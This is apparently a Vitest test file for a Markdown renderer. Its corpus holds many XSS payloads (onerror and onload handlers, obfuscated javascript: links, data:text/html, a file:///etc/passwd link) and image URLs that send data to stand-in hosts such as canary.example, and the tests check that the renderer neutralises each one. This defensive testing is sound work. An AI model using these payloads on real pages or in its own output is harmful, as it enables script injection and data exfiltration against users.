import { describe, expect, it } from "vitest";
import { lexer } from "../../src/markdown/lexer";
import { highlight } from "../../src/markdown/languages";
import { patch } from "../../src/markdown/patch";
import { renderTokens, safeHref } from "../../src/markdown/render";

function drawn(source: string, copy?: string): HTMLElement {
  const root = document.createElement("div");
  root.append(renderTokens(lexer(source), copy));
  return root;
}

const html = (source: string) => drawn(source).innerHTML;

/** Everything in the rendered tree that could run, load or navigate. */
function dangers(source: string): string[] {
  const found: string[] = [];
  for (const node of drawn(source, "Copy").querySelectorAll("*")) {
    if (!/^(A|BLOCKQUOTE|BR|BUTTON|CODE|DEL|DIV|EM|H[1-6]|HR|IMG|INPUT|LI|OL|P|PRE|SPAN|STRONG|TABLE|TBODY|TD|TH|THEAD|TR|UL)$/.test(node.tagName)) found.push(node.tagName);
    for (const { name, value } of node.attributes) {
      if (/^on|^style$|^srcset$|^formaction$/.test(name)) found.push(`${name}=${value}`);
      if (name === "href" && !/^(https?:|mailto:)/.test(value)) found.push(`href=${value}`);
      if (name === "src" && !value.startsWith("data:image/")) found.push(`src=${value}`);
    }
  }
  return found;
}

const CORPUS = [
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><use href=//evil.example/x#y /></svg>",
  "</script><script>alert(1)</script>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<form><button formaction=javascript:alert(1)>x",
  "<div style=\"background:url(https://canary.example/?d=1)\">x</div>",
  "<link rel=stylesheet href=https://canary.example/x.css>",
  "<input autofocus onfocus=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](java&#x09;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](custom-app://run)",
  "[x](//evil.example)",
  "<javascript:alert(1)>",
  "![x](https://canary.example/?d=secret)",
  "![x](//canary.example/x.png)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
  "![x](data:image/png\" onload=\"alert(1);base64,AAAA)",
  "![\" onerror=alert(1) x=\"](x)",
  "[x](https://a.example \"\" onmouseover=alert(1)\")",
  "```js\" onclick=\"alert(1)\ncode\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <svg/onload=alert(1)> |",
  "- [x] <img src=x onerror=alert(1)>",
  "[ref]\n\n[ref]: javascript:alert(1)",
];

describe("hostile Markdown", () => {
  it.each(CORPUS)("%j cannot run, load or navigate", (source) => {
    expect(dangers(source)).toEqual([]);
  });

  it("shows raw HTML as text", () => {
    const root = drawn("before <b>bold</b> <script>x</script>");
    expect(root.textContent).toContain("<b>bold</b> <script>x</script>");
    expect(root.querySelector("b")).toBeNull();
  });

  it("turns a remote image into a link that a person has to click", () => {
    expect(html("![chart](https://canary.example/c.png)")).toMatch(/<a [^>]*href="https:\/\/canary\.example\/c\.png"[^>]*>chart<\/a>/);
    expect(html("![chart](https://canary.example/c.png)")).not.toContain("<img");
  });

  it("shows a small embedded picture", () => {
    expect(html("![dot](data:image/png;base64,iVBORw0KGgo=)")).toContain('<img src="data:image/png;base64,iVBORw0KGgo="');
  });

  it("opens links away from the page", () => {
    const link = html("[x](https://example.org/a?b=1&c=2)");
    expect(link).toContain('rel="noopener noreferrer"');
    expect(link).toContain('target="_blank"');
    expect(link).toContain("https://example.org/a?b=1&amp;c=2");
  });

  it.each(["<pre><b>x</b></pre>", "a <code><img src=x onerror=alert(1)></code>", "a <pre>&lt;b&gt; <i>x"])("shows what %j holds as text", (source) => {
    expect(drawn(source).querySelector("b, i, img")).toBeNull();
    expect(drawn(source).textContent).toContain(source.startsWith("a <pre>") ? "<i>x" : source.slice(5, 12));
  });

  it("parses nothing as HTML but single character names", () => {
    const parsed: string[] = [];
    const original = Object.getOwnPropertyDescriptor(Element.prototype, "innerHTML")!;
    Object.defineProperty(Element.prototype, "innerHTML", { ...original, set: (value: string) => parsed.push(value) });
    try {
      for (const source of [...CORPUS, "a &lt;b&gt; &amp; &nosuchname; &#60; &#x3c;script&#x3e;"]) drawn(source, "Copy");
    } finally {
      Object.defineProperty(Element.prototype, "innerHTML", original);
    }
    expect(parsed).toContain("&lt;");
    expect(parsed.filter((value) => !/^&[#\w]+;$/.test(value))).toEqual([]);
  });

  it("keeps code in a highlighted block inert", () => {
    const root = document.createElement("div");
    root.append(highlight("<img src=x onerror=alert(1)><script>let a = '<b>';</script>", "xml")!);
    expect(new Set([...root.querySelectorAll("*")].map((node) => node.tagName))).toEqual(new Set(["SPAN"]));
    expect(root.textContent).toBe("<img src=x onerror=alert(1)><script>let a = '<b>';</script>");
    expect(root.querySelector(".hljs-keyword")?.textContent).toBe("let");
  });

  it("renders deep nesting in bounded time", () => {
    const started = performance.now();
    html(`${"> ".repeat(400)}x\n\n${"*a ".repeat(4000)}`);
    expect(performance.now() - started).toBeLessThan(3000);
  });
});

describe("links", () => {
  it.each(["https://example.org", "http://localhost:1", "mailto:a@example.org"])("accepts %s", (href) => {
    expect(safeHref(href)).toBe(href);
  });
  it.each(["ftp://x", "https:/x", "https://exa mple", "javascript:1", "", "/relative", "tel:1"])("refuses %j", (href) => {
    expect(safeHref(href)).toBeNull();
  });
});

describe("what people write", () => {
  it("shows the characters that names stand for, but not in code", () => {
    const root = drawn("5 &lt; 6 &amp; &eacute;&#33; &nosuchname; `&lt;`");
    expect(root.textContent).toBe("5 < 6 & é! &nosuchname; &lt;");
  });
  it("starts an ordered list where it was told to", () => {
    expect(html("3. a\n4. b")).toBe('<ol start="3"><li>a</li><li>b</li></ol>');
  });
  it("renders tables with numbers to the right", () => {
    expect(html("| a | b |\n|---|---|\n| x | 12.5 % |")).toContain('<td class="num">12.5 %</td>');
  });
  it("keeps numbers in a centred column centred", () => {
    expect(html("| a |\n|:-:|\n| 5 |")).toContain('<td class="num mid">5</td>');
  });
  it("renders task lists", () => {
    expect(drawn("- [x] done").querySelector("li")?.innerHTML).toBe('<input type="checkbox" disabled="" checked=""> done');
    expect(html("- [x] done\n- [ ] open")).toMatch(/<input[^>]*type="checkbox"[^>]*>/);
  });
  it("keeps the language of a nested code block", () => {
    expect(html("1. one\n\n   ```rust\n   fn x() {}\n   ```")).toContain('<code data-lang="rust">');
  });
});

describe("growing text", () => {
  it("leaves what stays in place, and ends as if drawn at once", () => {
    const answer = "Some **bold words** and `code`, [a link](https://example.org) here.\n\n- one\n- two\n  - [x] three\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```js\nlet a = 1;\n```\n\n> quoted\n> more";
    const root = document.createElement("div");
    patch(root, renderTokens(lexer(answer.slice(0, 12)), "Copy"));
    const first = root.querySelector("p")!.firstChild;
    for (let end = 13; end <= answer.length; end++) {
      patch(root, renderTokens(lexer(answer.slice(0, end)), "Copy"));
      expect(root.innerHTML).toBe(drawn(answer.slice(0, end), "Copy").innerHTML);
    }
    expect(root.querySelector("p")!.firstChild).toBe(first);
  });

  it("keeps a selection in what was there", () => {
    const root = document.createElement("div");
    document.body.append(root);
    patch(root, renderTokens(lexer("Read these words")));
    const text = root.querySelector("p")!.firstChild as Text;
    document.getSelection()!.setBaseAndExtent(text, 5, text, 10);
    patch(root, renderTokens(lexer("Read these words, and **more**\n\nof them")));
    expect(document.getSelection()!.toString()).toBe("these");
    root.remove();
  });
});
